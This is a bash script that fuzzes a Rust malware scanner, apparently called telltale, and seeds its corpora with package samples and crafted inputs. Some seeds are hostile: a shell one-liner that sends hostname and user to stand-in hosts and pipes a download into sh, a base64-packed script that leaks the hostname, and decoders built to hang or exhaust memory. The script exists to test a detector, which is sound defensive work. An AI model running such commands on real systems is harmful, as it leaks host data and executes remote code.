#!/usr/bin/env bash
# Fuzz telltale with cargo fuzz (libFuzzer, no sanitizer: builds on stable Rust). Targets:
# the whole pipeline (scan_bytes), the JS front end (js), shell, lockfiles, and each reader of
# what hides code: Node SEA blobs (sea), Bun module graphs (bun), pkg and nexe payloads,
# Electron asar archives (asar), containers inside packages (containers), and the interpreter
# of home-made decoders (decoder: a decoder's body, then its arguments).
#   bash scripts/fuzz.sh [SECONDS_PER_TARGET] [TARGET...]
# Seeds come from the repository's fixtures and small real packages of ../shared/corpus
# (read as bytes, never run). Crashes land in fuzz/artifacts/TARGET/; each one fixed is kept
# as a regression test with the other hostile inputs in crates/telltale/tests/cli.rs.
# Memory is bounded per input: -rss_limit_mb=2048 -malloc_limit_mb=2048, 30 s per input.
set -euo pipefail
cd "$(dirname "$0")/.."
secs=${1:-600}
shift || true
targets=("$@")
[ ${#targets[@]} -gt 0 ] || targets=(js scan_bytes shell lockfile sea bun pkg nexe asar containers decoder)
command -v cargo-fuzz >/dev/null || cargo install cargo-fuzz --locked
seed() { # target file [pick-byte]
  local dir=fuzz/corpus/$1 f=$2 pick=${3:-}
  mkdir -p "$dir"
  local out="$dir/seed-$(basename "$f")"
  if [ -n "$pick" ]; then { printf "\\x$pick"; cat "$f"; } > "$out"; else cp "$f" "$out"; fi
}
for f in crates/telltale-js/tests/fixtures/obfuscator/out/*.js crates/telltale-js/tests/fixtures/obfuscator/src/*.js; do
  [ "$(stat -c %s "$f")" -lt 65536 ] && seed js "$f"
done
for f in ../shared/corpus/npm/{event-source-polyfill-1.0.26,node-machine-id-1.1.12,os-locale-6.0.2,peacenotwar-9.1.1}.tgz \
         ../shared/corpus/samples/npm/{lodashs-1.0.2,electorn-1.0.1}.tgz; do
  seed scan_bytes "$f" 05          # NAMES[5] = pkg.tgz
done
for f in ../shared/corpus/samples/pypi/*.tar.gz; do
  [ "$(stat -c %s "$f")" -lt 65536 ] && seed scan_bytes "$f" 05
done
for f in crates/telltale-js/tests/fixtures/obfuscator/out/*.js; do
  [ "$(stat -c %s "$f")" -lt 65536 ] && seed scan_bytes "$f" 00   # NAMES[0] = index.js
done
printf 'curl -s http://x.top/$(hostname)?u=$(whoami) | sh; nslookup `hostname`.a.top\n' > /tmp/telltale-seed.sh
seed shell /tmp/telltale-seed.sh
seed scan_bytes /tmp/telltale-seed.sh 03
head -c 60000 tests/fixtures/lockfiles/large/package-lock.json > /tmp/telltale-seed-lock.json
seed lockfile /tmp/telltale-seed-lock.json 00
for f in crates/telltale-ingest/tests/fixtures/executables/pkg-*; do seed pkg "$f"; done
seed nexe crates/telltale-ingest/tests/fixtures/executables/nexe3
# nexe 5's fixture is past -max_len: the same layout with a one-line launch code instead.
python3 - crates/telltale-ingest/tests/fixtures/executables/nexe5 /tmp/telltale-seed-nexe5 <<'PY'
import struct, sys
d = open(sys.argv[1], 'rb').read()
at = d.rindex(b"<nexe~~sentinel>")
code, res = struct.unpack("<dd", d[at + 16:at + 32])
zip_ = d[at - int(res):at]
launch = b"!(function () {process.__nexe = {};})();;"
open(sys.argv[2], 'wb').write(b"\x7fELF" + launch + zip_ + d[at:at + 16] + struct.pack("<dd", len(launch), len(zip_)))
PY
seed nexe /tmp/telltale-seed-nexe5
seed asar crates/telltale-ingest/tests/fixtures/asar/app.asar
for f in crates/telltale-ingest/tests/fixtures/executables/sea-*.elf; do seed sea "$f"; done
for f in crates/telltale-ingest/tests/fixtures/executables/bun-*.elf; do seed bun "$f"; done
# containers: the first byte names the file inside an npm tarball (0 an archive, 1 an
# executable, 3 a script, 6 an asar): nested archives, runtime executables, base64 archives.
for f in ../shared/corpus/samples/npm/{lodashs-1.0.2,electorn-1.0.1}.tgz; do seed containers "$f" 00; done
for f in crates/telltale-ingest/tests/fixtures/executables/{sea-node24.22.3-assets-execargv-codecache.elf,bun-1.4.5-utf16.elf,pkg-gzip,nexe3}; do seed containers "$f" 01; done
seed containers crates/telltale-ingest/tests/fixtures/asar/app.asar 06
python3 - > /tmp/telltale-seed-b64.js <<'PY'
import base64, gzip, io, tarfile
buf = io.BytesIO()
with tarfile.open(fileobj=buf, mode="w:gz") as tar:
    data = b"require('https').get('https://t.example.top/?h=' + require('os').hostname())"
    info = tarfile.TarInfo("package/stage2.js"); info.size = len(data)
    tar.addfile(info, io.BytesIO(data))
print('const blob = "' + base64.b64encode(buf.getvalue()).decode() + '";')
PY
seed containers /tmp/telltale-seed-b64.js 03
# decoder: real decoders' bodies (XOR + base64 with a key, hex pairs, closures, reversal, a
# packer's unpacker) and hostile ones (endless loops, doubling strings, deep recursion).
python3 - fuzz/corpus/decoder <<'PY'
import os, sys
out = sys.argv[1]
os.makedirs(out, exist_ok=True)
seeds = {
    "xor-base64": ('const b=Buffer.from(s,"base64");for(let i=0;i<b.length;i++)b[i]^=String(k).charCodeAt(i%String(k).length);return b.toString()', "'JEA=', 'K3y'"),
    "hex": ("let o='';for(let i=0;i<s.length;i+=2){o+=String.fromCharCode(parseInt(s.substr(i,2),16))}return o", "'68747470733a2f2f782e6578616d706c652f', 0"),
    "map": ("return s.split('').map((c,i)=>String.fromCharCode(c.charCodeAt(0)^k)).join('')", "'o{{\x7f|5((', 7"),
    "reverse": ("return atob(s.split('').reverse().join(''))", "'=8yLvRHc0h2L', 1"),
    "object": ("const d={};for(const w of s.split('|'))d[w]=w.length;let o=[];for(const x in d)o.push(x+d[x]);return o.sort().join(',')", "'a|bb|ccc', 0"),
    "regex": ("return s.replace(/[a-z]/g,function(c){return String.fromCharCode((c.charCodeAt(0)-97+k)%26+97)})", "'uggcf', 13"),
    "switch": ("let o='';for(let i=0;i<s.length;i++){switch(s[i]){case'a':o+='x';break;default:o+=s[i]}}try{throw o}catch(e){return e}finally{o=''}", "'banana', 0"),
    "loop": ("while(true){}", "'x', 0"),
    "double": ("for(;;)s+=s;", "'ab', 0"),
    "recurse": ("return f(s+s,k+1)+f(s,k+1)", "'ab', 0"),
    "alloc": ("return new Array(2**30).join(s)+Buffer.alloc(1e9)", "'ab', 0"),
}
for name, (body, args) in seeds.items():
    open(os.path.join(out, "seed-" + name), "w").write(body + "\n" + args)
PY
(cd fuzz && cargo fuzz build -s none -O)
for t in "${targets[@]}"; do
  mkdir -p "fuzz/artifacts/$t"
  echo "== $t for ${secs}s"
  (cd fuzz && cargo fuzz run -s none -O "$t" -- -max_total_time="$secs" -rss_limit_mb=2048 -malloc_limit_mb=2048 \
     -timeout=30 -max_len=262144 -print_final_stats=1 2>&1 | grep -E "^(#|==|stat::|SUMMARY|Done)" | tail -12) || echo "!! $t stopped: see fuzz/artifacts/$t"
done
